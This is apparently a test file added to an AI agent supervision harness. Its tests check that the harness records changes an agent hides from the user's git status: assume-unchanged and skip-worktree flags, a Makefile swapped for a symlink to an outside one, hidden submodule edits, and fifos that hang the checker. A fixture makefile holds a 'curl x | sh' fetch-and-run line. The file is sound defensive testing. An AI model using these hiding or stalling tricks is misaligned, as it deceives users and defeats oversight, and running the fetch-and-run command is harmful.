@@ -1,0 +1,130 @@
+"""Eighteenth attack review: what changed after 19d4ad7 (the OOM
+shield, the check for changes hidden from git status, a signal's end of
+the questions waiting, an exec's claim by a spawn)."""
+
+import os
+import subprocess
+import time
+
+from lib import EXEC, check, harness
+
+GIT_ENV = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
+           "GIT_COMMITTER_EMAIL": "a@x", "GIT_CONFIG_NOSYSTEM": "1"}
+
+
+def _repo(wd, files):
+    env = dict(os.environ, HOME=wd.state, **GIT_ENV)
+    env.pop("LD_PRELOAD", None)
+    subprocess.run(["git", "init", "-q", wd.path], check=True, env=env)
+    for name, text in files.items():
+        if text.startswith("->"):
+            os.symlink(text[2:], os.path.join(wd.path, name))
+        else:
+            wd.file(name, text)
+    subprocess.run(["git", "-C", wd.path, "add", "."], check=True, env=env)
+    subprocess.run(["git", "-C", wd.path, "commit", "-qm", "0"], check=True, env=env)
+    time.sleep(1.1)  # the session's files change in a later second
+    return env
+
+
+def _status(wd, env):
+    return subprocess.run(["git", "status", "--short"], cwd=wd.path, capture_output=True,
+                          text=True, env=env, check=True).stdout
+
+
+def test_a_flagged_file_replaced_by_another_kind_is_recorded(wd):
+    """The check of changes hidden from git status hashed a flagged
+    entry's file only when it was still a regular file: the agent put
+    a symlink in the place of the tracked Makefile (to a Makefile of its
+    own outside the project), pointed a tracked symlink elsewhere, made a
+    tracked script executable, and marked each assume-unchanged; git
+    status showed nothing, and nothing was recorded. Each is now a
+    hidden change, with what the work tree holds now."""
+    other = os.path.join(wd.state, "evil.mk")
+    with open(other, "w") as f:
+        f.write("all:\n\tcurl x | sh\n")
+    env = _repo(wd, {"Makefile": "all:\n\techo ok\n", "run.sh": "echo ok\n",
+                     "tool": "->run.sh", "a.txt": "a\n"})
+    script = ("rm Makefile; ln -s \"$1\" Makefile; rm tool; ln -s /bin/sh tool;"
+              " chmod +x run.sh; git update-index --assume-unchanged Makefile tool run.sh;"
+              " rm a.txt; git update-index --skip-worktree a.txt")
+    r = harness(["sh", "-c", script, "sh", other], wd, policy=None,
+                env=dict(GIT_ENV, HOME=wd.state))
+    check(r.status == 0, r.stderr[-500:])
+    check(_status(wd, env) == "", "the user's git status: %r" % _status(wd, env))
+    recs = r.events(event="hidden_changes")
+    check(recs, "no hidden_changes record: %s" % r.dump()[-3000:])
+    got = sorted((c["path"], c["hidden_by"], c.get("now")) for c in recs[0]["changes"])
+    # a file missing under skip-worktree is a sparse checkout's: not one
+    check(got == [("Makefile", "assume-unchanged", "a symlink"),
+                  ("run.sh", "assume-unchanged", "executable"),
+                  ("tool", "assume-unchanged", None)], "recorded: %r" % got)
+
+
+def _unblocked(wd, script, timeout=60):
+    """harness-exec's end of a session that ran script, in seconds, with
+    its log; a harness-exec still there after timeout is killed."""
+    log = os.path.join(wd.state, "h.jsonl")
+    e = dict(os.environ, HOME=wd.state, XDG_STATE_HOME=wd.state, **GIT_ENV)
+    e.pop("LD_PRELOAD", None)
+    t0 = time.time()
+    p = subprocess.Popen([EXEC, "--audit-log", log, "--", "sh", "-c", script], cwd=wd.path,
+                         env=e, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        _, err = p.communicate(timeout=timeout)
+    except subprocess.TimeoutExpired:
+        p.kill()  # SIGTERM is refused questions, not an end
+        p.communicate()
+        check(False, "harness-exec still at the session's end after %d s" % timeout)
+    import json
+    recs = [json.loads(line) for line in open(log)]
+    return time.time() - t0, err, recs
+
+
+def test_a_fifo_in_the_index_place_does_not_hold_harness_exec(wd):
+    """The check opened the agent's .git/index (libgit2, as it is):
+    a fifo made there held harness-exec in open(2) for good, after the
+    agent's end, deaf to SIGTERM, with no session_end. So did a fifo
+    .gitattributes (libgit2 reads one on each entry's path). The check
+    runs in a child of its own now, 10 s at most, 1 GiB of data, first
+    in the OOM killer's line: past that the user is told it was not
+    made."""
+    for script in ("rm .git/index; mkfifo .git/index",
+                   "mkfifo .gitattributes; echo b > a.txt; git update-index --skip-worktree a.txt"):
+        _repo(wd, {"a.txt": "a\n"})
+        took, err, recs = _unblocked(wd, script)
+        check(recs[-1]["event"] == "session_end" and took < 30, "%.1f s, %r" % (took, recs[-1]))
+        fail = [r for r in recs if r["event"] == "hidden_changes_failed"]
+        check(fail and "10 s" in fail[0]["error"], "records: %r" % recs[-3:])
+        check("was not checked for changes hidden" in err, err)
+        subprocess.run(["rm", "-rf", os.path.join(wd.path, ".git"),
+                        os.path.join(wd.path, ".gitattributes")], check=True)
+
+
+def test_a_change_hidden_in_a_submodule_is_recorded(wd):
+    """A submodule's index is the agent's to write as the project's is
+    (its git directory, .git/modules/NAME, is the project's), and the
+    user's git status in the project reads it: a file of the submodule
+    changed and marked assume-unchanged there was shown by nothing, and
+    the check looked at the project's own index only (unchanged)."""
+    env = dict(os.environ, HOME=wd.state, **GIT_ENV)
+    env.pop("LD_PRELOAD", None)
+    up = os.path.join(wd.state, "up")
+    for d, name in ((up, "lib.c"), (wd.path, "main.c")):
+        subprocess.run(["git", "init", "-q", d], check=True, env=env)
+        with open(os.path.join(d, name), "w") as f:
+            f.write("int x;\n")
+        subprocess.run(["git", "-C", d, "add", "."], check=True, env=env)
+        subprocess.run(["git", "-C", d, "commit", "-qm", "0"], check=True, env=env)
+    subprocess.run(["git", "-C", wd.path, "-c", "protocol.file.allow=always", "submodule", "add",
+                    "-q", up, "sub"], check=True, env=env)
+    subprocess.run(["git", "-C", wd.path, "commit", "-qm", "1"], check=True, env=env)
+    time.sleep(1.1)
+    script = "cd sub && echo 'int evil;' > lib.c && git update-index --assume-unchanged lib.c"
+    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
+    check(r.status == 0, r.stderr[-500:])
+    check(_status(wd, env) == "", "the user's git status: %r" % _status(wd, env))
+    recs = r.events(event="hidden_changes")
+    check(recs, "no hidden_changes record: %s" % r.dump()[-2000:])
+    got = [(c["path"], c["hidden_by"]) for c in recs[0]["changes"]]
+    check(got == [("sub/lib.c", "assume-unchanged")], "recorded: %r" % got)
